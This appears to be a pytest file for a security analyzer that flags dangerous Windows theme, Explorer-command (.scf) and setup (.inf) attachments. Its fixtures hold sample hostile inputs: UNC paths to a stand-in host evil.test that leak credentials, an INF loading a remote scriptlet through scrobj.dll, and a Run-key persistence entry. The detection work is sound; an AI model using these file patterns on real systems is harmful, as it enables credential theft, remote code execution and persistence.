"""Themes, Explorer commands and setup files."""

from __future__ import annotations

from analyzers.attachments.settings_files import UNIT
from analyzers.model.observation import Observation, Severity
from tests.analyzers.attachments.observed import facts, findings, observe


def seen(kind: str, text: str) -> list[Observation]:
    return observe(UNIT, text.encode(), f"a.{kind}", kind)


def test_a_theme_with_pictures_of_its_own_is_quiet() -> None:
    local = "[Theme]\nDisplayName=a\n[Control Panel\\Desktop]\nWallpaper=%SystemRoot%\\a.jpg"
    assert not findings(seen("theme", local))


def test_a_theme_that_fetches_is_a_finding() -> None:
    far = "[Theme]\nBrandImage=\\\\evil.test\\a\\b.png\n"
    far += "[VisualStyles]\nPath=\\\\evil.test\\a.msstyles"
    found = findings(seen("theme", far))
    assert found["theme.remote"].severity is Severity.HIGH
    assert found["theme.program"].severity is Severity.HIGH


def test_an_explorer_command_reaches_for_its_picture() -> None:
    found = seen("scf", "[Shell]\nCommand=2\nIconFile=\\\\evil.test\\a\\b.ico")
    assert findings(found)["scf.remote"].severity is Severity.HIGH
    assert not findings(seen("scf", "[Shell]\nCommand=2\nIconFile=explorer.exe,3"))


def test_a_setup_file_runs_the_lines_of_named_sections() -> None:
    text = (
        "[Version]\nSignature=$chicago$\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=Ocx\n"
        "[Ocx]\n%11%\\scrobj.dll,NI,https://a.test/b.sct\n"
    )
    found = seen("inf", text)
    assert findings(found)["inf.runs"].severity is Severity.HIGH
    assert "scrobj" in facts(found)["Would run"]


def test_a_driver_is_quiet_and_a_start_is_not() -> None:
    driver = '[Version]\nSignature="$Windows NT$"\nClass=Net\nProvider=%p%\n[Strings]\np="Maker"\n'
    found = seen("inf", driver)
    assert not findings(found)
    assert facts(found)["Provider (a claim)"] == "Maker"
    starts = driver + '[Add]\nHKCU,"Software\\Microsoft\\Windows\\CurrentVersion\\Run","a",,"b"\n'
    assert findings(seen("inf", starts))["inf.persists"].severity is Severity.HIGH
